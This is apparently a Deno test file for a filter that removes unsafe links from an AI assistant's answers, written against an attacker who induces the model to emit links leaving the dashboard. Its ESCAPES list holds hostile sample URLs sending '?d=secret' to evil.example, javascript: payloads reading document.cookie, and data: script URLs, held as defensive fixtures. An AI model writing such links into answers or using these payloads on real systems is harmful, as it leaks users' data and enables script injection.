// Links out of answers tried as an attacker who gets the model to write a URL that starts with
// {dashboard_url} but leaves it: protocol-relative paths, backslashes, dot segments, encodings,
// user information, another port or scheme. Only the dashboard's own routes stay links, rebuilt
// from their parse; everything else loses its link.
import { deepStrictEqual as assertEquals } from 'node:assert/strict';
import { filterLinks } from './answer-filter.ts';
import { dashboardLink, deviceLink, requestLink } from './dashboard-links.ts';

const DASHBOARD = 'http://dash.test';
const UUID = 'b0000000-0000-4000-8000-00000000000a';
const target = (url: string) => dashboardLink(url, DASHBOARD);

/** URLs that begin like a dashboard link (or pretend to) and lead elsewhere or nowhere. */
const ESCAPES = [
  `${DASHBOARD}//evil.example/?d=secret`,
  `${DASHBOARD}/\\evil.example/?d=secret`,
  `${DASHBOARD}/..//evil.example/?d=secret`,
  `${DASHBOARD}/./..//evil.example/?d=secret`,
  `${DASHBOARD}/%2F%2Fevil.example/?d=secret`,
  `${DASHBOARD}/%2f%2fevil.example/?d=secret`,
  `${DASHBOARD}\\\\/evil.example/?d=secret`,
  `${DASHBOARD}/\\\\/evil.example/?d=secret`,
  `${DASHBOARD}/devices/..//evil.example/?d=secret`,
  `${DASHBOARD}@evil.example/devices/${UUID}`,
  `http://user:pw@dash.test/devices/${UUID}`,
  `http://dash.test:8080/devices/${UUID}`,
  `https://dash.test/devices/${UUID}`,
  `http://dash.test.evil.example/devices/${UUID}`,
  `HTTP://DASH.TEST//evil.example/?d=secret`,
  `ht\ttp://dash.test//evil.example/?d=secret`,
  `javascript:alert(document.cookie)//${DASHBOARD}/devices/${UUID}`,
  `JavaScript:fetch('//evil.example/?d='+1)`,
  `java\nscript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `//evil.example/devices/${UUID}`,
  `/devices/${UUID}`,
  // Same origin, but not a route the assistant may link: consent could approve a stranger's
  // client, sign-in carries a return path.
  `${DASHBOARD}/mcp/consent?rid=AAAAAAAAAAAAAAAAAAAA`,
  `${DASHBOARD}/sign-in?next=/`,
  `${DASHBOARD}/devices/${UUID}/`,
  `${DASHBOARD}/devices/not-a-uuid-at-all-but-36-chars-long-x`,
  `${DASHBOARD}/requests/0`,
  `${DASHBOARD}/requests/7abc`,
  `${DASHBOARD}/assets/index.js`,
];

Deno.test('refuses every URL that is not one of the dashboard routes at its origin', () => {
  for (const url of ESCAPES) assertEquals(target(url), null, JSON.stringify(url));
});

Deno.test('writes a dashboard route anew from its parse, without query or fragment', () => {
  const cases: Array<[string, string]> = [
    [`${DASHBOARD}/devices/${UUID}`, `${DASHBOARD}/devices/${UUID}`],
    [`HTTP://DASH.TEST/devices/${UUID.toUpperCase()}`, `${DASHBOARD}/devices/${UUID}`],
    [`http://dash.test:80/requests/7`, `${DASHBOARD}/requests/7`],
    [`${DASHBOARD}/requests/7?d=secret#x`, `${DASHBOARD}/requests/7`],
    [`${DASHBOARD}/x/../requests/7`, `${DASHBOARD}/requests/7`],
    [`${DASHBOARD}/devices\\${UUID}`, `${DASHBOARD}/devices/${UUID}`],
    [`ht\ttp://dash.test/requests/7`, `${DASHBOARD}/requests/7`],
    [`${DASHBOARD}/captures`, `${DASHBOARD}/captures`],
    [`${DASHBOARD}`, `${DASHBOARD}/`],
  ];
  for (const [url, canonical] of cases) assertEquals(target(url), canonical, url);
});

Deno.test('builds row links that its own check accepts unchanged', () => {
  const device = deviceLink(`${DASHBOARD}/`, UUID.toUpperCase());
  assertEquals(device, `${DASHBOARD}/devices/${UUID}`);
  assertEquals(target(device), device);
  assertEquals(target(requestLink(DASHBOARD, 4012)), `${DASHBOARD}/requests/4012`);
});

/** The destinations of every inline link the markdown still holds. */
function destinations(markdown: string): string[] {
  return [...markdown.matchAll(/(?<!\\)\]\(([^)]*)\)/g)].map((match) => match[1] as string);
}

Deno.test('an escaping link in the answer keeps only its label, a bare one becomes code', () => {
  for (const url of ESCAPES.filter((u) => !/\s/.test(u))) {
    const out = filterLinks(`See [the device](${url}) or ${url} now.`, target);
    assertEquals(
      destinations(out),
      [],
      `${JSON.stringify(url)} came out as ${JSON.stringify(out)}`,
    );
  }
});

Deno.test('a dashboard link in the answer is written as its canonical route', () => {
  const out = filterLinks(
    `[Pixel](HTTP://DASH.TEST/devices/${UUID.toUpperCase()}?d=x) and ${DASHBOARD}/requests/7?d=x.`,
    target,
  );
  assertEquals(out, `[Pixel](${DASHBOARD}/devices/${UUID}) and ${DASHBOARD}/requests/7.`);
});
